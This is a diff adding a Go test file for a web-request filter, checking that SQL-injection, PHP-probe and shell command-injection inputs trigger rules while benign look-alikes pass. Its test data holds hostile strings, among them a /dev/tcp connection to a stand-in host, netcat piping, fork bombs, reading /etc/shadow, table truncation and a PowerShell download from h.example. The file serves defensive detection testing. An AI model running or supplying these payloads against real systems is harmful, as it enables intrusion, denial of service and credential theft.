@@ -1,0 +1,111 @@
+package filter
+
+import (
+	"strings"
+	"testing"
+)
+
+// probeCases: call probes, catalogue names and SQL statement shapes,
+// built from each grammar's parts, with look-alikes that share their
+// words.
+func probeCases() []langCase {
+	var out []langCase
+	// SQL builtins, unclosed or with SQL arguments, in query and form.
+	for _, f := range []string{"concat", "Group_Concat", "unhex", "IFNULL", "substring", "ascii", "coalesce", "current_user", "xmltype", "pg_sleep"} {
+		for _, args := range []string{"(", " (", "('a',1)", "(0x41)", "(1,2,3)", "(@@version)", "(now())"} {
+			out = append(out, langCase{KindQueryValue, "q", f + args, "sqli-call-probe"}, langCase{KindBodyValue, "v", f + args + "\n", "sqli-call-probe"})
+		}
+	}
+	for _, p := range []string{"user(", "database( )", "version()", "char(65,66)", "hex('x')", ", find_in_set('3', cat)", ",concat(a,0x3a,b)", "div(7,-3)",
+		"information_schema", "PG_CATALOG", "mysql.user", "MSysObjects", "tempdb", "sqlite_master"} {
+		out = append(out, langCase{KindQueryValue, "table", p, "sqli-call-probe"})
+	}
+	for _, b := range []string{"user(s)", "version(s)", "Insert (optional)", "char (max)", "Database (primary)", "trim(left)", "concat", "user", "information", "schema",
+		"catalog", "f(x)", "md5 hash", "substring matching", "price (USD)", "call me (maybe)", "mid (2019)", "Version (beta)", "tempdb is a system database in SQL Server"} {
+		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
+	}
+	// PHP builtins called alone, also as the last path segment.
+	for _, f := range []string{"print_r", "strrev", "var_dump", "file_exists", "intval", "base64_decode", "curl_init", "strip_tags", "getenv", "fopen"} {
+		for _, args := range []string{"()", "( )", "($x)", "('a')", "(", "(1)[0]", "(\"/etc\");"} {
+			out = append(out, langCase{KindQueryValue, "q", f + args, "php-probe"})
+		}
+	}
+	for _, p := range []string{"/api/unpack()", "/x/print_r($a)", "/y/get_defined_vars()"} {
+		out = append(out, langCase{KindPath, "", p, "php-probe"})
+	}
+	for _, p := range []string{"auto_prepend_file=/tmp/x", "allow_url_include = On", "opcache.enable_cli=1", "memory_limit = 1G", "disable_functions=", "mbstring.func_overload=7", "session.save_path=/var/tmp"} {
+		out = append(out, langCase{KindBodyValue, "cfg", p, "php-probe"})
+	}
+	for _, b := range []string{"/api/items(1)", "/odata/Products(5)", "/docs/print_r", "file (pdf)", "system (metric)", "System(s)", "unpack (the box)", "memory limit = 1G",
+		"limit=10", "session.timeout=30", "precision=2", "error=none", "mode = fast", "disable_functions"} {
+		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindPath, "", "/p/" + b, ""})
+	}
+	// SQL statements and clauses at the start of a value.
+	for _, p := range []string{"CREATE TABLE t1 (a int)", "create function f() returns int", "Create View v as select 1", "/create table accounts", "ALTER TABLE users ADD admin int",
+		"alter table `t` drop column x", "DECLARE @q varchar(99)", "declare/**/@v", "exec (@cmd)", "EXEC master.dbo.xp_dirtree", "EXECUTE IMMEDIATE 'drop table x'",
+		"case when 1=1 then 1 else 0 end", "CASE WHEN a THEN b", "if(1=1,sleep(1),0)", ") like (", "7 AS \"x\" FROM t", "select a group by b having count(*)>1",
+		"SELECT * FROM `m` GROUP BY `c` HAVING `c` = 2", "'a'<>'b", "\"x\" != \"y", "1.e(user)", "2.e.tables", ";truncate table logs", "';select 1", "; replace(a) values (1)",
+		"` AS `uid` FROM", "x` as `y` from t", "select char(", "SELECT(user(", "select 1,2,version(", "select if(1", "select pg_sleep"} {
+		out = append(out, langCase{KindQueryValue, "q", p, "sqli-fragment"}, langCase{KindBodyValue, "v", p, "sqli-fragment"})
+	}
+	for _, b := range []string{"Create table of contents", "create a user account", "alter table layout please", "Declare your income", "declare @bob the winner",
+		"Execute the plan", "In case when it rains then stay", "case when", "If (you) can", "I (really) like (cats)", "known as \"Bob\" from Texas", "Group by region",
+		"select a color", "Select the best option (recommended)", "It's a 'test' case", "version 1.2.3", "1.e4 notation", "; see below", "'quoted' text; more",
+		"select your plan, then group by team having fun", "He said \"hi\" as \"hello\" from afar", "Tables (and chairs)", "truncate the text", "\"a\" != \"a\" // false", "'a' != 'b'"} {
+		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
+	}
+	// Shell: info command then a separator, here-strings, /tcp/ through a
+	// variable, self-piping functions, ~+ and ~-, cd after a separator,
+	// admin tools and compressed readers as the whole command line or
+	// after a leading separator or a harmless "time;".
+	for _, p := range []string{"whoami;x", "id|nc h 1", "uname -a&&echo", "hostname; ls", "python3<<<'print(1)'", ";bc<<<2*3", "x=$t/udp/10.0.0.9/53", "a=/dev;cat</dev/null>${a}/tcp/h.example/4444",
+		"bomb() { bomb | bomb & } bomb", "f(){ f|f& };f", "~+", "~-", "~+2", "|cd /;cd var;ls", "&& cd /etc; cat shadow",
+		"ansible-playbook -i hosts play.yml", "chef-client -z", "knife ssh 'name:*' uptime", "cscli decisions list", "visudo", "time; cscli bouncers list", "true; knife status",
+		"zcat /var/log/auth.log.1.gz", "gunzip -c /var/log/syslog.2.gz", "xzcat /etc/backup.xz", "bzcat /root/db.bz2", ";regedit /s x.reg", "&bcdedit /set safeboot", "; iwr https://h.example/a.ps1"} {
+		out = append(out, langCase{KindQueryValue, "cmd", p, ""}, langCase{KindBodyValue, "code", p, ""})
+		out[len(out)-1].rule, out[len(out)-2].rule = "rce", "rce"
+	}
+	for _, b := range []string{"whoami (the command) prints your name", "id card; passport", "id: 42; name: x", "~ 5 minutes", "~/projects", "~+ approx", "a << b", "x <<< y is a diff marker",
+		"install ansible, then run playbooks", "chef; cook", "Visudo edits sudoers safely", "gunzip the file", "zcat", "time: 5pm; place: hall", "f() { return a && b } g", "cd src; make"} {
+		out = append(out, langCase{KindQueryValue, "q", b, ""}, langCase{KindBodyValue, "text", b, ""})
+	}
+	return out
+}
+
+func TestProbeGrammars(t *testing.T) {
+	in, err := NewInspector(InspectorOptions{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	byRule, benign := map[string]int{}, 0
+	for _, c := range probeCases() {
+		if c.rule == "" {
+			benign++
+		} else {
+			byRule[c.rule]++
+		}
+		hits := in.InspectValue(nil, c.kind, c.name, c.value)
+		score, rules := 0, make([]string, 0, len(hits))
+		for _, h := range hits {
+			score += h.Score
+			rules = append(rules, h.Rule)
+		}
+		if c.rule == "" {
+			if score >= DefaultThreshold {
+				t.Errorf("benign kind %d %s=%q blocked: %v", c.kind, c.name, c.value, rules)
+			}
+			continue
+		}
+		if c.rule == "rce" {
+			// Any command-injection rule.
+			if !strings.Contains(" "+strings.Join(rules, " "), " rce-") {
+				t.Errorf("kind %d %s=%q: want an rce-* rule, got %v", c.kind, c.name, c.value, rules)
+			}
+			continue
+		}
+		if !strings.Contains(" "+strings.Join(rules, " ")+" ", " "+c.rule+" ") {
+			t.Errorf("kind %d %s=%q: want %s, got %v", c.kind, c.name, c.value, c.rule, rules)
+		}
+	}
+	t.Logf("positives by rule: %v; benign look-alikes: %d", byRule, benign)
+}
